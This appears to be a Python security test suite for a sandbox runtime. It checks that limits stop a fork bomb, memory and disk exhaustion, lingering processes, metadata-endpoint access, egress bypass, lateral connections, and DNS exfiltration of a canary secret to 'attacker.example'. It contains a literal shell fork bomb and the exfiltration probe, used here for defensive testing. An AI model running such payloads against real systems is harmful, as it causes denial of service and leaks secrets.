"""Catalog sections C (resource exhaustion) and D (network).

Network probes run in the default offline mode (network "none": the
sandbox has only its loopback). In a container sandbox the eBPF filter's
hooks refuse every connect or send out with EPERM before routing would
(ENETUNREACH) and report a bpf-net audit event; a function call has no
filter: ENETUNREACH from the kernel and no event (redlib.NET_EXPECT). The
allowlist-mode variants (allowed host:port, DNS proxy, dns events) are
further columns of the same probes with `network=` set on the sandbox.
"""
import os
import time

import warren
from conftest import enc
from redlib import net, net_event, parse, probe

LIMITS = {"memory_mb": 64, "pids": 64, "disk_mb": 16}


def _limits(ctx, **kw):
    if ctx.container:
        return kw
    return {k: v for k, v in kw.items() if k in ("memory_mb", "pids", "cpu_time")}


@probe("c-forkbomb")
def test_c_forkbomb(ctx):
    lim = _limits(ctx, pids=64, memory_mb=256)
    _, outcome, kv = parse(ctx.probe("forkbomb", limits=lim, timeout=60)[0])
    assert outcome == "EAGAIN" and 0 < int(kv["forks"]) < 64, (outcome, kv)
    _, outcome, kv = parse(ctx.probe("threads", 100000, limits=lim, timeout=60)[0])
    assert outcome == "EAGAIN" and int(kv["threads"]) < 64, (outcome, kv)
    # a shell fork bomb, bounded by the command timeout
    t0 = time.time()
    r = ctx.run(["sh", "-c", "b() { b | b & }; b"], limits=lim, timeout=5)
    assert r.reason in ("timeout", "exited"), r.reason
    # the host answers, the sandbox can still be killed
    assert warren.Sandbox.health(**ctx.rt.alice) is not None
    assert time.time() - t0 < 60
    if ctx.container:
        ctx.expect_event("cgroup-limit", "pids.max")
        t1 = time.time()
        assert ctx.sb.kill()
        assert time.time() - t1 < 10
        ctx.made.remove(ctx.sb)


@probe("c-membomb")
def test_c_membomb(ctx):
    lim = _limits(ctx, memory_mb=64)
    # no way to make the host's OOM killer prefer someone else
    _, outcome, _ = parse(ctx.probe("put", "/proc/self/oom_score_adj", "-1000", limits=lim)[0])
    assert outcome == "EACCES", outcome
    r = ctx.run(["wr-probe", "membomb", "128"], limits=lim, timeout=60)
    assert r.reason == "oom", r
    assert r.memory_peak_bytes is None or r.memory_peak_bytes <= 72 << 20, r.memory_peak_bytes
    r = ctx.run(["wr-probe", "memfd", "128"], limits=lim, timeout=60)
    assert r.reason == "oom" or "memfd errno=" in r.stdout, (r.reason, r.stdout)
    r = ctx.run(["wr-probe", "diskfill", "/dev/shm"], limits=lim, timeout=60)
    assert r.reason == "oom" or "diskfill errno=ENOSPC" in r.stdout, (r.reason, r.stdout)
    if ctx.container:
        ctx.expect_event("cgroup-limit", "oom_kill")


@probe("c-disk")
def test_c_disk(ctx):
    disk0 = ctx.rt.disk_bytes(ctx.rt.d.root)
    lim = _limits(ctx, disk_mb=16, memory_mb=256)
    if ctx.container:
        # /dev/shm is a directory of the writable layer's tmpfs: the same
        # quota (it was a tmpfs of min(64 MiB, memory/4) of its own)
        where = ["/tmp", "/" if ctx.uid == 0 else "/home/user", "/dev/shm"]
    else:
        where = ["/work", "/tmp"]
    for d in where:
        r = ctx.run(["wr-probe", "diskfill", d], limits=lim, timeout=60)
        if ctx.container:
            _, outcome, kv = parse(r.stdout.splitlines()[-1])
            assert outcome == "ENOSPC" and int(kv["mib"]) <= 16, (d, r.stdout)
        else:
            # a call's tmpfs is charged to its memory (ENOSPC or OOM) and
            # its file size limit (RLIMIT_FSIZE) stops one file first
            assert r.reason == "oom" or "diskfill errno=ENOSPC" in r.stdout or \
                "diskfill errno=EFBIG" in r.stdout, (d, r)
    r = ctx.run(["wr-probe", "inodefill", where[0]], limits=lim, timeout=120)
    assert r.reason == "oom" or "inodefill errno=ENOSPC" in r.stdout, r.stdout
    # the sandbox's files live in its own tmpfs (charged to its memory), not
    # on a host filesystem: the daemon's directories did not grow. (Free
    # space of / is no measure on a machine shared with other builds.)
    grew = ctx.rt.disk_bytes(ctx.rt.d.root) - disk0
    assert grew < 8 << 20, f"daemon directories grew {grew} bytes"


@probe("c-fds")
def test_c_fds(ctx):
    _, outcome, kv = parse(ctx.probe("fdfill", timeout=60)[0])
    assert outcome == "EMFILE", (outcome, kv)
    assert kv["raise_soft_to_hard"] == "ok" and kv["raise_hard"] == "errno=EPERM", kv


@probe("c-cpu")
def test_c_cpu(ctx):
    assert parse(ctx.probe("sched-fifo")[0])[1] == "EPERM"
    if ctx.container:
        lines = ctx.probe("spin", 2, 3, limits={"cpu": 0.5}, timeout=60)
        _, _, kv = parse(lines[0])
        # 0.5 CPU for 3 s: 1.5 s of CPU time, with scheduler slack
        assert int(kv["cpu_ms"]) < 2200, kv
    else:
        r = ctx.run(["wr-probe", "spin", "2", "5"], limits={"cpu_time": 1}, timeout=20)
        assert r.reason == "cpu_time", r


def _pid_alive_check(ctx, pid, want="ENOENT"):
    """ENOENT when /proc has no such process (a signal cannot tell: Landlock
    scopes signals to the command's own domain, so kill(pid, 0) is EPERM).
    A killed process stays in /proc until PID 1 reaps it: a few tries."""
    for _ in range(10):
        _, outcome, _ = parse(ctx.probe("ls", f"/proc/{pid}")[0])
        if outcome == want:
            break
        time.sleep(0.3)
    return outcome


@probe("c-linger")
def test_c_linger(ctx):
    lines = ctx.probe("linger", 300)
    _, outcome, kv = parse(lines[0])
    assert outcome == "ok", lines
    pid = int(kv["pid"])
    if ctx.container:
        # A process a command leaves behind lives on in its sandbox after a
        # normal exit (a server started with nohup is a legitimate use);
        # the command's timeout kills its whole tree, setsid'd or not
        r = ctx.run(["sh", "-c", "wr-probe linger 300; wr-probe sleep 100"], timeout=1)
        assert r.reason == "timeout", r
        assert _pid_alive_check(ctx, int(r.stdout.split("pid=")[1].split()[0])) == "ENOENT"
        # and the sandbox's kill takes the first one (checked from the host)
        assert _pid_alive_check(ctx, pid, "ok") == "ok"
        assert ctx.sb.kill()
        ctx.made.remove(ctx.sb)
    else:
        # a call leaves nothing for the next call of its pool: no process
        # (its pid namespace ended), no file in /tmp, /work or /dev/shm
        r = ctx.run(["sh", "-c", "for d in /tmp /work /dev/shm; do "
                     "wr-probe write $d/residue 10; done; wr-probe linger 300"])
        assert r.stdout.count("write ok") == 3 and "linger ok" in r.stdout, r.stdout
        r = ctx.run(["sh", "-c", "for d in /tmp /work /dev/shm; do "
                     "wr-probe read $d/residue; done; wr-probe procwalk"])
        assert r.stdout.count("read errno=ENOENT") == 3, r.stdout
        # only this call's own processes (the shell may have exec'd the probe)
        head = [ln for ln in r.stdout.splitlines() if ln.startswith("procwalk ok")][0]
        assert int(parse(head)[2]["count"]) <= 2, r.stdout
    # host view: no wr-probe left in any of the daemon's cgroups
    time.sleep(0.2)
    base = ctx.rt.d.cg_base
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            cg = open(f"/proc/{p}/cgroup").read()
            comm = open(f"/proc/{p}/comm").read().strip()
        except OSError:
            continue
        if base in cg and comm == "wr-probe":
            cmd = open(f"/proc/{p}/cmdline").read()
            assert "linger" not in cmd, f"lingering process {p}: {cmd!r}"


# ---------------------------------------------------------------- D

@probe("d-metadata")
def test_d_metadata(ctx):
    got = ctx.outcomes(ctx.probe("egress", "169.254.169.254", "fd00:ec2::254", 80), "egress")
    assert got["tcp4"] == got["tcp6"] == net("connect"), got
    assert parse(ctx.probe("connect-tcp", "100.100.100.200", 80)[0])[1] == net("connect")
    net_event(ctx, "connect")


@probe("d-dns-exfil")
def test_d_dns_exfil(ctx):
    secret = enc(ctx.rt.canaries["grader"])[:40]
    lines = ctx.probe("dns", f"{secret}.attacker.example", "8.8.8.8", "1.1.1.1",
                      "2001:4860:4860::8888")
    for ln in lines:
        if ln.startswith(("dns udp53", "dns tcp53")):
            assert ln.split()[-1] == net("sendto" if "udp" in ln else "connect"), ln
        elif ln.startswith("dns doh443"):
            assert ln.split()[-1] == net("connect"), ln
    assert lines[-1] == "dns resolvers count=0", lines
    net_event(ctx, "connect")


@probe("d-egress-bypass")
def test_d_egress_bypass(ctx):
    got = ctx.outcomes(ctx.probe("egress", "1.1.1.1", "2606:4700:4700::1111", 443), "egress")
    assert got["tcp4"] == got["tcp6"] == net("connect"), got
    assert got["udp4-sendto"] == got["udp6-sendto"] == net("sendto"), got
    assert got["icmp-dgram"] == net("icmp-dgram"), got
    assert got["raw-icmp"] == got["raw-ip"] == got["packet"] == net("raw"), got
    net_event(ctx, "sendto")
    net_event(ctx, "socket")  # the ping socket: the filter's sock_create refusal
    # raw and packet sockets: refused by the seccomp filter, with its event
    # (every tier that runs commands under it: containers and calls)
    ctx.expect_event("seccomp", "socket")


@probe("d-abstract-unix")
def test_d_abstract_unix(ctx):
    names = ctx.rt.abstract + ["/tmp/.X11-unix/X0", "dbus-session", "warren"]
    _, _, kv = parse(ctx.probe("abstract", *[enc(n) for n in names])[0])
    assert kv["connected"] == "0" and kv["seen"] == "0", kv


@probe("d-lateral")
def test_d_lateral(ctx):
    rt = ctx.rt
    for addr in rt.v4 + rt.v6 + ["10.0.0.1", "172.17.0.1"]:
        _, outcome, _ = parse(ctx.probe("connect-tcp", addr, rt.d.port)[0])
        assert outcome == net("connect"), (addr, outcome)
    # the victim sandbox (another tenant) has no address we can reach, and
    # nothing of it is visible here
    lines = ctx.probe("procwalk")
    assert all("sleep" not in ln for ln in lines[1:]), lines
